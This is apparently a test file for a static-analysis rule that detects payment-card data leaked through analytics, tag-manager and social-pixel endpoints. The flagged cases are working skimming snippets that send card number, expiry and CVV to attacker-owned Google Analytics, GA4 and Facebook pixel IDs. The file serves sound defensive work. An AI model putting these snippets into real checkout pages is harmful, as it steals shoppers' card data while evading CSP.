// Tests for card-data-via-analytics-channel: card or form data sent to an analytics,
// tag-manager, ads or social endpoint (an attacker-owned property passes the CSP). Findings
// are reported on the sink. Sections are separate scripts.

// Google Analytics Measurement Protocol with an attacker tracking id, image beacon.
var n = document.querySelector('#cc_number').value;
var e = document.querySelector('#cc_exp').value;
// ruleid: card-data-via-analytics-channel
new Image().src = 'https://www.google-analytics.com/collect?v=1&tid=UA-99999-1&t=event&el=' + btoa(n + '|' + e);

// ---
// GA4 via sendBeacon with the serialised checkout form.
var form = jQuery('#checkout').serialize();
// ruleid: card-data-via-analytics-channel
navigator.sendBeacon('https://region1.google-analytics.com/g/collect?v=2&tid=G-ATTACKER&en=x', form);

// ---
// The Facebook pixel endpoint as a drop, through a helper.
function track(value) {
  // ruleid: card-data-via-analytics-channel
  fetch('https://www.facebook.com/tr?id=123456789&ev=Lead&cd[v]=' + encodeURIComponent(value), { mode: 'no-cors' });
}
track(document.getElementById('cvv').value);

// ---
// An ordinary GA4 purchase event: order id and value, no card data.
var total = document.getElementById('order-total').textContent;
// ok: card-data-via-analytics-channel
navigator.sendBeacon('https://region1.google-analytics.com/g/collect?v=2&tid=G-SHOP1&en=purchase&epn.value=' + total);

// ---
// Loading Google Tag Manager on the checkout page.
var gtm = document.createElement('script');
// ok: card-data-via-analytics-channel
gtm.src = 'https://www.googletagmanager.com/gtm.js?id=GTM-ABC123';
document.head.appendChild(gtm);

// ---
// A card-brand icon lookup sent to the site, with a page-view pixel that carries no card data.
var bin = document.getElementById('card-number').value.slice(0, 6);
fetch('/checkout/bin-lookup?bin=' + bin);
// ok: card-data-via-analytics-channel
new Image().src = 'https://www.facebook.com/tr?id=123456789&ev=InitiateCheckout';

// ---
// Through the page's own gtag() call, to the attacker's GA4 property.
var pan = document.querySelector('#cc_number').value;
// ruleid: card-data-via-analytics-channel
gtag('event', 'checkout_progress', {event_label: btoa(pan), send_to: 'G-ATTACKER1'});
// ---
// A normal gtag event: no card data.
// ok: card-data-via-analytics-channel
gtag('event', 'begin_checkout', {value: 42.5, currency: 'EUR'});
